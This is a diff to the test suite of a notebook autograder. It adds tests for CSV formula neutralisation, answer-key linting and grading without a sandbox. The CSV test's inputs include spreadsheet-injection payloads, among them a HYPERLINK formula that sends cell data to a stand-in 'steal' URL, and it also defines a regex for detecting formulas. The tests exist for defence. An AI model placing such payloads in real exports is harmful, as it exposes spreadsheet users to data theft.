@@ -10,17 +10,17 @@ import * as fs from 'fs';
 import * as http from 'http';
 import * as path from 'path';
 import { assemble } from '../grading/assemble';
-import { batch } from '../grading/batch';
+import { batch, csvField } from '../grading/batch';
 import { computeChecksum } from '../grading/checksum';
 import { exportGradescope } from '../grading/gradescope';
 import { Cell, Notebook, readNotebook, sourceOf, toLines, writeNotebook } from '../grading/notebook';
-import { releaseNotebook, solutionStub } from '../grading/release';
+import { lintSource, releaseNotebook, solutionStub } from '../grading/release';
 import { Results, validateResults } from '../grading/results';
 import { probeSandbox } from '../grading/runner';
 import { SandboxKind } from '../grading/sandbox';
 import { topLevelDeclarations } from '../grading/shadowing';
 import { validate } from '../grading/validate';
-import { jupyterPython, projectRoot } from '../jupyter/environment';
+import { findJupyter, jupyterPython, projectRoot } from '../jupyter/environment';
 
 const ROOT = projectRoot();
 const WORK = path.join(ROOT, 'test-artifacts', 'grading');
@@ -119,6 +119,27 @@ describe('grading: release and assembly', () => {
     for (const p of [/Cell 'mean' was deleted/, /Cell 'square' appears 2 times/, /Locked cell 'square-check' was edited/, /moved out of their original order/, /grade_id 'bonus'.*ignored/]) assert.match(problems, p);
     assert.deepStrictEqual(a.tests.map((t) => [t.gradeId, t.points, t.hidden]), [['square-check', 2, true], ['mean-check', 3, true], ['tf-check', 1, false], ['kl-check', 3, true]]);
     assert.deepStrictEqual(a.manual, [{ gradeId: 'q1', points: 1 }]);
+  });
+
+  it('grades.csv: formulas are neutralised, numbers stay numbers, and awkward names round-trip through a real CSV reader', () => {
+    const names = ['=HYPERLINK("http://x.example/steal?"&A1,"click")', '+SUM(A1:A9)', '-2+3', '@cmd', '\tcalc', '\rcmd', 'O\'Brien, "Bob"', 'two\nlines', 'plain', '−9 (a minus sign, not a hyphen)'];
+    const row = [...names.map(csvField), csvField(-3), csvField(2.5)].join(',');
+    const parsed = JSON.parse(execFileSync(jupyterPython()!, ['-c', 'import csv, io, json, sys; print(json.dumps(next(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'], { input: `${row}\n`, encoding: 'utf8' })) as string[];
+    // Text that a spreadsheet would evaluate gets a leading apostrophe (OWASP); everything else comes back as it was.
+    const formula = /^[=+\-@\t\r]/;
+    assert.deepStrictEqual(parsed.slice(0, names.length), names.map((n) => (formula.test(n) ? `'${n}` : n)));
+    for (const cell of parsed.slice(0, names.length)) assert.doesNotMatch(cell, formula);
+    assert.deepStrictEqual(parsed.slice(names.length), ['-3', '2.5']);
+  });
+
+  it('lints the withheld answer keys: unknown names, and a function genlab implements that the lab forgets to withhold', () => {
+    const unknown = miniLab();
+    unknown.metadata.genlab = { withheld: ['klNormal', 'klNormall'] };
+    assert.match(lintSource(unknown, 'mini').join('\n'), /metadata\.genlab\.withheld names 'klNormall', which is not one of genlab's answer keys/);
+    const forgotten = miniLab();
+    forgotten.metadata.genlab = { withheld: [] };
+    assert.match(lintSource(forgotten, 'mini').join('\n'), /cell 7 \('kl'\) asks for `klNormal`, which genlab implements \(losses\.klNormal.*but the notebook does not withhold it: add "klNormal" to metadata\.genlab\.withheld/);
+    assert.deepStrictEqual(lintSource(miniLab(), 'mini'), []);
   });
 
   it('reads top-level declarations for the shadowing guard', () => {
@@ -466,6 +487,36 @@ for (const kind of ['unshare', 'none'] as const) {
     });
   });
 }
+
+describe('grading: a machine with neither namespace tool (as on macOS)', function () {
+  this.timeout(5 * 60 * 1000);
+
+  it('grades with no sandbox, says so on the command line and in results.json, and scores the same', () => {
+    const root = path.join(WORK, 'no-namespaces');
+    fs.rmSync(root, { recursive: true, force: true });
+    const bin = path.join(root, 'bin');
+    fs.mkdirSync(bin, { recursive: true });
+    // PATH holds Jupyter and nothing else: no bwrap, no unshare, no prlimit.
+    fs.symlinkSync(findJupyter()!, path.join(bin, 'jupyter'));
+    writeNotebook(path.join(root, 'mini-source.ipynb'), miniLab());
+    writeNotebook(path.join(root, 'alice.ipynb'), studentWith({ square: SQUARE, mean: MEAN, kl: klWith(KL_BODY) }));
+    const cli = path.join(ROOT, 'dist', 'grading', 'cli.js');
+    const r = spawnSync(process.execPath, [cli, 'autograde', path.join(root, 'alice.ipynb'), '--source', path.join(root, 'mini-source.ipynb'), '--out', path.join(root, 'out')], {
+      encoding: 'utf8',
+      env: { ...process.env, PATH: bin },
+      timeout: 240000,
+    });
+    assert.strictEqual(r.status, 0, r.stdout + r.stderr);
+    assert.match(r.stdout, /sandbox bubblewrap passed over: bwrap is not installed/);
+    assert.match(r.stdout, /sandbox unshare passed over: unshare is not installed/);
+    assert.match(r.stderr, /warning: grading WITHOUT a sandbox/);
+    assert.match(r.stdout, /Score: 9 \/ 9 points/);
+    const results = JSON.parse(fs.readFileSync(path.join(root, 'out', 'results.json'), 'utf8')) as Results;
+    assert.strictEqual(results.extra_data.sandbox_kind, 'none');
+    assert.match(results.output, /Warning: this submission was graded WITHOUT a sandbox/);
+    assert.ok((results.extra_data.not_contained as string[]).includes('memory beyond the JS heap limit (prlimit is missing)'));
+  });
+});
 
 describe('grading: the real labs', function () {
   this.timeout(15 * 60 * 1000);
